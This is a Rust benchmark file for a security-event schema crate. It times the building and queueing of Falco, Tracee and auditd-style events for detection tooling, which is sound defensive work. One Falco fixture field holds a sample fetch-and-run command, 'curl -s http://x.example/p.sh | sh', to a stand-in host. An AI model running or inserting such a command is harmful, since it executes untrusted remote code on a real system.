//! The fixed cost of an owned [`Event`]: build, move through a short queue (as the merge's
//! look-ahead does) and drop, for events shaped like what the parsers produce.
//!
//! `cargo bench -p tripline-schema --bench event`

use std::collections::VecDeque;
use std::hint::black_box;

use chrono::{DateTime, TimeZone, Utc};
use criterion::{Criterion, Throughput, criterion_group};
use tripline_schema::{
    Container, Event, EventKind, Group, Host, Image, ParentProcess, Process, ProcessEvent,
    ProcessExtra, Product, Severity, Source, Text, User,
};

fn at() -> DateTime<Utc> {
    Utc.timestamp_opt(1_700_000_010, 5_123)
        .single()
        .unwrap_or_default()
}

/// An empty finding: the cost before any field is set.
#[inline(never)]
fn empty_finding() -> Event {
    Event::new(
        at(),
        Source::new(Product::Falco, "falco-json"),
        EventKind::Finding(Box::default()),
    )
}

/// An empty process exec.
#[inline(never)]
fn empty_exec() -> Event {
    Event::new(
        at(),
        Source::new(Product::Tracee, "tracee-json"),
        EventKind::ProcessExec(Box::<ProcessEvent>::default()),
    )
}

/// What the Falco normalizer builds for "Terminal shell in container": the finding is created
/// empty inside the event and filled in place.
#[inline(never)]
fn falco_finding(n: u64) -> Event {
    let mut source = Source::new(Product::Falco, "falco-json");
    source.event_code = Some("execve".into());
    source.sequence = Some(n);
    let mut event = Event::new(at(), source, EventKind::Finding(Box::default()));
    if let EventKind::Finding(finding) = &mut event.kind {
        finding.rule.name = Some("Terminal shell in container".into());
        finding.rule.ruleset = Some("falco_rules".into());
        finding.rule.category = Some("syscall".into());
        let p = finding.process.insert(Process::default());
        p.pid = Some(31337);
        p.ppid = Some(31300);
        p.vpid = Some(7);
        p.executable = Some("/bin/sh".into());
        p.name = Some("sh".into());
        p.command_line = Some("sh -c curl -s http://x.example/p.sh | sh".into());
        p.user = Some(User {
            id: Some(0),
            name: Some("root".into()),
        });
        p.group = Some(Group {
            id: Some(0),
            name: Some("root".into()),
        });
        p.parent = Some(Box::new(ParentProcess {
            pid: Some(31300),
            executable: Some("/usr/bin/runc".into()),
            name: Some("runc".into()),
            ..ParentProcess::default()
        }));
        finding.user = finding.process.as_ref().and_then(|p| p.user.clone());
        finding.event_type = Some("execve".into());
    }
    event.action = Some("execve".into());
    event.host = Some(Host {
        name: Some("web-1".into()),
        ..Host::default()
    });
    event.container = Some(Container {
        id: Some("2ae6a7f15b6e".into()),
        name: Some("web".into()),
        image: Some(Image::parse_reference("nginx:1.25")),
        ..Container::default()
    });
    event.severity = Severity::from_falco_priority("Notice").unwrap_or_default();
    event.message = Some(Text::from(
        "22:13:30.000005123: Notice A shell was spawned in a container with an attached terminal",
    ));
    event.tags = vec!["container".into(), "shell".into(), "T1059".into()];
    event
        .vendor_mut("falco")
        .insert("proc.aname[2]", "containerd-shim");
    event
}

/// What the Tracee normalizer builds for `sched_process_exec`: the process is built first
/// and moved into the kind.
#[inline(never)]
fn tracee_exec(n: u64) -> Event {
    let mut process = Process {
        pid: Some(4242),
        ppid: Some(4200),
        vpid: Some(12),
        entity_id: Some("3156718463".into()),
        name: Some("bash".into()),
        user: Some(User::from_id(0)),
        parent: Some(Box::new(ParentProcess {
            pid: Some(4200),
            entity_id: Some("1804289383".into()),
            ..ParentProcess::default()
        })),
        ..Process::default()
    };
    process.executable = Some("/usr/bin/bash".into());
    process.args = vec!["bash".into(), "-c".into(), "id".into()];
    process.command_line = Some("bash -c id".into());
    let kind = EventKind::ProcessExec(Box::new(ProcessEvent {
        process,
        ..ProcessEvent::default()
    }));
    let mut source = Source::new(Product::Tracee, "tracee-json");
    source.event_code = Some("1003".into());
    source.sequence = Some(n);
    let mut event = Event::new(at(), source, kind);
    event.action = Some("sched_process_exec".into());
    event.container = Some(Container {
        id: Some("2ae6a7f15b6e9a4b1c".into()),
        ..Container::default()
    });
    event
}

/// What the auditd normalizer builds for an `execve`: every identity of the SYSCALL record.
#[inline(never)]
fn auditd_exec(n: u64) -> Event {
    let root = || Some(User::from_id(0));
    let root_group = || {
        Some(Group {
            id: Some(0),
            name: None,
        })
    };
    let process = Process {
        pid: Some(4242),
        ppid: Some(4200),
        executable: Some("/usr/bin/docker".into()),
        name: Some("docker".into()),
        user: root(),
        login_user: Some(User::from_id(1000)),
        group: root_group(),
        tty: Some("pts0".into()),
        args: vec!["docker".into(), "exec".into(), "web".into(), "sh".into()],
        command_line: Some("docker exec web sh".into()),
        extra: ProcessExtra {
            real_user: root(),
            saved_user: root(),
            fs_user: root(),
            real_group: root_group(),
            saved_group: root_group(),
            fs_group: root_group(),
            session_id: Some(3),
            ..ProcessExtra::default()
        }
        .boxed(),
        ..Process::default()
    };
    let mut source = Source::new(Product::Auditd, "audit-log");
    source.sequence = Some(n);
    let mut event = Event::new(
        at(),
        source,
        EventKind::ProcessExec(Box::new(ProcessEvent {
            process,
            ..ProcessEvent::default()
        })),
    );
    event.action = Some("execve".into());
    event
}

/// One step: builds an event with `make`, passes it as `Ok` through a 16-deep queue (the
/// merge's look-ahead), looks at it and drops it.
#[inline(never)]
fn step(queue: &mut VecDeque<Event>, n: u64, make: Make) {
    let item: Result<Event, ()> = Ok(make(black_box(n)));
    if let Ok(ev) = black_box(item) {
        queue.push_back(ev);
    }
    let out = queue.pop_front();
    black_box(out.as_ref().map(|e| e.kind.name()));
    drop(out);
}

fn queue(make: Make) -> VecDeque<Event> {
    let mut queue = VecDeque::with_capacity(17);
    for i in 0..16 {
        queue.push_back(make(i));
    }
    queue
}

/// Builds the event of step `n`.
type Make = fn(u64) -> Event;

const CASES: [(&str, Make); 5] = [
    ("empty_finding", |_| empty_finding()),
    ("empty_exec", |_| empty_exec()),
    ("falco_finding", falco_finding),
    ("tracee_exec", tracee_exec),
    ("auditd_exec", auditd_exec),
];

fn bench(c: &mut Criterion) {
    let mut g = c.benchmark_group("event");
    g.throughput(Throughput::Elements(1));
    for (name, make) in CASES {
        let mut q = queue(make);
        let mut n = 16u64;
        g.bench_function(name, |b| {
            b.iter(|| {
                n += 1;
                step(&mut q, n, make);
            })
        });
    }
    g.finish();
}

criterion_group!(benches, bench);

/// `TRIPLINE_EVENT_STEPS=<case>:<n>` runs `n` steps of one case and nothing else, for
/// instruction counts under callgrind (the difference of two step counts is the per-event
/// cost, free of load noise).
fn main() {
    if let Ok(spec) = std::env::var("TRIPLINE_EVENT_STEPS") {
        let (case, steps) = spec.split_once(':').unwrap_or((spec.as_str(), "1000"));
        let steps: u64 = steps.parse().unwrap_or(1000);
        if let Some((_, make)) = CASES.iter().find(|(name, _)| *name == case) {
            let mut q = queue(*make);
            for n in 0..steps {
                step(&mut q, n, *make);
            }
        }
        return;
    }
    benches();
    Criterion::default().configure_from_args().final_summary();
}
